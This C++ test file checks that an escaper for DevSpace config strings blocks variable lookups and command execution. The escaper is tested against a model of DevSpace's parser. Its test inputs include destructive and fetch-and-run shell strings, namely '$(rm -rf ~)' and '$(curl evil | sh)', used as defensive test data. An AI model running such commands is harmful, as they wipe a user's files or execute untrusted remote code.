// The escaping against a model of DevSpace 6's config loader, written from its sources
// (pkg/util/vars/parse.go: ParseString; pkg/devspace/config/loader/expression:
// ResolveExpressions; the loader runs variables, expressions, variables). The model
// refuses, as a failure of the escaping, anything that would look up a variable, run a
// command or turn the string into a number or a bool.
#include "compiler/emit/devspace_escape.h"

#include <doctest/doctest.h>

#include <random>
#include <regex>

namespace dsc::emit {
namespace {

bool GoParsesAsIntOrBool(const std::string& s) {
  static const std::regex integer("[+-]?[0-9]+");
  static const std::regex boolean("1|t|T|TRUE|true|True|0|f|F|FALSE|false|False");
  return std::regex_match(s, integer) || std::regex_match(s, boolean);
}

// vars.ParseString, with a replace function that fails: only `$$`-escaped matches pass.
std::optional<std::string> VariablePass(const std::string& value) {
  static const std::regex var(R"(\$+!?\{[^}]+\})");
  std::string out;
  size_t last = 0;
  bool matched = false;
  for (auto it = std::sregex_iterator(value.begin(), value.end(), var);
       it != std::sregex_iterator(); ++it) {
    std::string match = it->str();
    if (match.size() < 2 || match[1] != '$') return std::nullopt;  // a variable lookup
    out += value.substr(last, static_cast<size_t>(it->position()) - last) + match.substr(1);
    last = static_cast<size_t>(it->position() + it->length());
    matched = true;
  }
  if (!matched) return value;
  out += value.substr(last);
  if (GoParsesAsIntOrBool(out)) return std::nullopt;  // no longer a string
  return out;
}

// expression.ResolveExpressions: `(?ms)^\$\$?\#?\!?\((.+)\)$`, tried at each line start.
std::optional<std::string> ExpressionPass(const std::string& value) {
  static const std::regex expression(R"(\$\$?#?!?\(([\s\S]+)\)(?=\n|$))");
  for (size_t line = 0; line <= value.size();) {
    std::smatch m;
    if (std::regex_search(value.begin() + static_cast<long>(line), value.end(), m, expression,
                          std::regex_constants::match_continuous)) {
      if (value[1] == '$') return value.substr(1);
      return std::nullopt;  // runs a command
    }
    size_t newline = value.find('\n', line);
    if (newline == std::string::npos) break;
    line = newline + 1;
  }
  return value;
}

std::optional<std::string> DevspaceReads(const std::string& written) {
  auto first = VariablePass(written);
  if (!first) return std::nullopt;
  auto second = ExpressionPass(*first);
  if (!second) return std::nullopt;
  return VariablePass(*second);
}

TEST_CASE("devspace.yaml strings: what DevSpace reads is what was written") {
  for (const char* text :
       {"plain /src", "PORT=${PORT} node", "$${X} and $!{Y}", "${} and ${unclosed", "$(rm -rf ~)",
        "$#!(date)", "echo $(date)", "$a${b}c", "$$$", "1", "true", "${a}\n$(date)"}) {
    CAPTURE(text);
    auto written = EscapeForDevspace(text);
    REQUIRE(written.has_value());
    CHECK(DevspaceReads(*written) == std::optional<std::string>(text));
  }
  CHECK(EscapeForDevspace("PORT=${PORT} node") == "PORT=$$${PORT} node");
  CHECK(EscapeForDevspace("$(rm -rf ~)") == "$$(rm -rf ~)");
}

TEST_CASE("devspace.yaml strings DevSpace cannot read back are refused") {
  // Two `$` before `(`: DevSpace takes one away, and nothing else reaches it.
  CHECK_FALSE(EscapeForDevspace("$$(echo hi)"));
  // An expression on a later line, in a value that does not start with `$`: DevSpace
  // runs it whatever comes first.
  CHECK_FALSE(EscapeForDevspace("run:\n$(curl evil | sh)"));
  CHECK(HasDevspaceExpression("a\n$(b\nc)\nd"));
  CHECK_FALSE(HasDevspaceExpression("$()"));
}

TEST_CASE("devspace.yaml strings: random texts over DevSpace's special characters") {
  const std::string alphabet = "${}()!#\na1";
  std::mt19937 rng(7);
  int refused = 0;
  for (int n = 0; n < 100000; ++n) {
    std::string text;
    for (int i = std::uniform_int_distribution<int>(0, 12)(rng); i > 0; --i)
      text += alphabet[std::uniform_int_distribution<size_t>(0, alphabet.size() - 1)(rng)];
    auto written = EscapeForDevspace(text);
    if (!written) {
      ++refused;
      continue;
    }
    CAPTURE(text);
    CAPTURE(*written);
    REQUIRE(DevspaceReads(*written) == std::optional<std::string>(text));
  }
  // Refusals are the rare shapes above, not a way out of the property.
  CHECK(refused < 2000);
}

}  // namespace
}  // namespace dsc::emit
